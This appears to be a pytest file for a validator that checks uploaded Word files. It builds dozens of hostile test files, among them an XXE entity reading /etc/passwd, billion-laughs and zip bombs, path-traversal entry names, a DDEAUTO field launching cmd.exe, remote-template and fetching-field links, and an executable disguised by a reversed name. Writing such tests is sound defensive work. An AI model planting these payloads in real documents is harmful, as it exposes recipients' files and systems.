"""Files made to break, exhaust or mislead the check: each gets the sentence that docs/hostile-files.md shows."""

from __future__ import annotations

import io
import random
import struct
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from ole_builder import ole
from reading_of import facts_of
from word_builder import document, docx, packed, paragraph, part, parts_of, relationship, run

from domain.notice_loader import load_notice
from validators import judge
from validators.report import Verdict

ROOT = Path(__file__).resolve().parents[2]
PAGE = (ROOT / "docs" / "hostile-files.md").read_text("utf-8")
NOTICE = load_notice(ROOT / "notices" / "enshi-2023-05")
PARTS = parts_of(paragraph("字"))
GOOD = packed(PARTS)
MB = 1024 * 1024


def _with(name: str, data: str | bytes) -> bytes:
    return packed({**PARTS, name: data})


def _main(xml: str | bytes) -> bytes:
    return _with("word/document.xml", xml)


def _laughs() -> str:
    steps = "".join(
        f'<!ENTITY b{n} "{f"&{chr(98) if n else chr(97)}{n - 1 if n else str()};" * 10}">' for n in range(9)
    )
    return f'<!DOCTYPE l [<!ENTITY a "ha">{steps}]><l>&b8;</l>'


def _stored(name: str, data: bytes, method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as target:
        for known, content in {**PARTS, name: data}.items():
            target.writestr(known, content)
    return buffer.getvalue()


def _sizes_said(said: int) -> bytes:
    """Both directories say this size of the largest part."""
    data = bytearray(_main(document(paragraph("字" * 200_000))))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(mark)
        while at >= 0:
            if struct.unpack_from("<I", data, at + offset)[0] > 500_000:
                struct.pack_into("<I", data, at + offset, said)
            at = data.find(mark, at + 4)
    return bytes(data)


def _flagged() -> bytes:
    data = bytearray(GOOD)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def _twice() -> bytes:
    return packed({**PARTS, "word/A.xml": "<a/>", "word/a.xml": "<a/>"})


def _nul_in_a_name() -> bytes:
    return _with("word/aXb.xml", "<a/>").replace(b"word/aXb.xml", b"word/a\0b.xml")


def _embedded(name: str) -> bytes:
    native = struct.pack("<IH", 4000, 2) + name.encode("gb18030") + b"\0" + b"C:\\a\0"
    return _with("word/embeddings/oleObject1.bin", ole(contents={"\x01Ole10Native": native}))


def _linked(kind: str, target: str) -> bytes:
    return docx(paragraph("字"), links=(relationship("rId9", kind, target, external=True),))


def _field(code: str) -> bytes:
    return docx(paragraph(runs=f'<w:fldSimple w:instr="{code}">{run("字")}</w:fldSimple>'))


ENTITY = "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"
CASES = {
    "entity that reads a file": lambda: _main(ENTITY),
    "the same in UTF-16": lambda: _main(f"\ufeff<?xml version='1.0' encoding='UTF-16'?>{ENTITY}".encode("utf-16-le")),
    "document type in another part": lambda: docx(paragraph("字"), extra={"styles": "<!DOCTYPE a><a/>"}),
    "billion laughs": lambda: _main(_laughs()),
    "one text of 30 MB": lambda: docx(f"<w:p><w:r><w:t>{'x' * 30_000_000}</w:t></w:r></w:p>"),
    "3 million paragraphs": lambda: docx("<w:p/>" * 3_000_000),
    "nested 5,000 deep": lambda: docx("<w:sdt>" * 5000 + "</w:sdt>" * 5000),
    "picture of 210 MB of nothing": lambda: _with("word/media/a.png", bytes(210 * MB)),
    "2,100 parts": lambda: packed({**PARTS, **{f"word/media/{number}.png": b"" for number in range(2100)}}),
    "size said too small": lambda: _sizes_said(100),
    "size said too large": lambda: _sizes_said(0x7FFFFFFF),
    "names that differ in letter case": _twice,
    "name out of the package": lambda: _with("..\\..\\x", "x"),
    "name on a drive": lambda: _with("C:\\x", "x"),
    "name with NUL": _nul_in_a_name,
    "encrypted entries": _flagged,
    "other compression": lambda: _stored("a", b"a", zipfile.ZIP_LZMA),
    "zip in a zip": lambda: packed({"a.zip": packed({"b.zip": packed({"c.docx": GOOD})})}),
    "100 MB of nothing": lambda: bytes(100 * MB),
    "100 MB of one letter": lambda: b"A" * (100 * MB),
    "Word file with 51 MB behind it": lambda: GOOD + bytes(51 * MB),
    "program with a Word file behind it": lambda: b"MZ" + bytes(100) + GOOD,
    "cut off": lambda: GOOD[: len(GOOD) // 2],
    "no main part": lambda: packed({name: data for name, data in PARTS.items() if name != "word/document.xml"}),
    "main part empty": lambda: _main(""),
    "empty": lambda: b"",
    "password": lambda: ole("EncryptedPackage", "EncryptionInfo"),
    "old Word or WPS file": lambda: ole("WordDocument"),
    "web page": lambda: b"<html><body>a</body></html>",
    "random bytes": lambda: random.Random(0).randbytes(5000),
    "macros": lambda: _with("word/vbaProject.bin", b"\xd0\xcf"),
    "embedded program": lambda: _embedded("安装.exe"),
    "program whose name is turned round": lambda: _with("word/embeddings/a\u202egpj.scr", b"MZ"),
    "ActiveX control": lambda: _with("word/activeX/activeX1.xml", "<a/>"),
    "template on a server": lambda: _linked("attachedTemplate", "http://198.51.100.7/a.dotm"),
    "picture on a server": lambda: _linked("image", "http://198.51.100.7/a.png"),
    "link to a share": lambda: _linked("hyperlink", "\\\\198.51.100.7\\a"),
    "live data link": lambda: _field("DDEAUTO c:\\windows\\cmd.exe a"),
    "field that fetches": lambda: _field("INCLUDETEXT http://198.51.100.7/a"),
    "text from another file": lambda: docx(paragraph("字") + '<w:altChunk r:id="rId9"/>'),
}
HARMLESS = {
    "absolute names": lambda: _with("/etc/passwd", "x"),
    "bytes behind the zip": lambda: GOOD + b"junk" * 100,
    "an embedded table": lambda: _embedded("成绩.xlsx"),
    "an embedded object that is none": lambda: _with(
        "word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    ),
    "a zip among the pictures": lambda: _with("word/media/a.zip", packed({"b.zip": bytes(10_000)})),
    "a link to a web page": lambda: _linked("hyperlink", "https://www.example.org/"),
    "100 empty notes": lambda: docx(paragraph("字"), extra={"footnotes": part("footnotes", "<w:footnote/>" * 100)}),
}


def _rows() -> dict[str, str]:
    """The sentences of the page by case."""
    cells = [line.strip("| ").split(" | ") for line in PAGE.splitlines() if line.startswith("| ")]
    return {row[0]: row[1] for row in cells if len(row) == 2}


def _judged(data: bytes) -> tuple[Verdict, list[str]]:
    report = judge(facts_of(data), NOTICE.category("B1"), NOTICE)
    return report.verdict, [f"`{found.name}` {found.message}{found.advice}" for found in report.findings]


@pytest.mark.parametrize("name", CASES)
def test_each_hostile_file_gets_its_sentence(name):
    verdict, sentences = _judged(CASES[name]())
    assert _rows()[name] in sentences
    assert verdict is not Verdict.PASS


def test_the_page_has_every_case_and_no_other():
    assert set(_rows()) - {"file", "---"} == set(CASES)


@pytest.mark.parametrize("make", HARMLESS.values(), ids=HARMLESS)
def test_what_only_looks_hostile_is_read_in_silence(make):
    facts = facts_of(make())
    assert facts.word is not None
    assert [paragraph.text for paragraph in facts.word.paragraphs] == ["字"]
    word = facts.word
    assert (word.programs, word.macros, word.controls, word.externals) == ((), False, False, ())


@pytest.mark.parametrize(
    "name", ["3 million paragraphs", "one text of 30 MB", "picture of 210 MB of nothing", "2,100 parts"]
)
def test_a_bomb_is_told_before_it_is_unpacked(name):
    data = CASES[name]()
    tracemalloc.start()
    try:
        assert not facts_of(data).readable
        assert tracemalloc.get_traced_memory()[1] < 20 * MB
    finally:
        tracemalloc.stop()
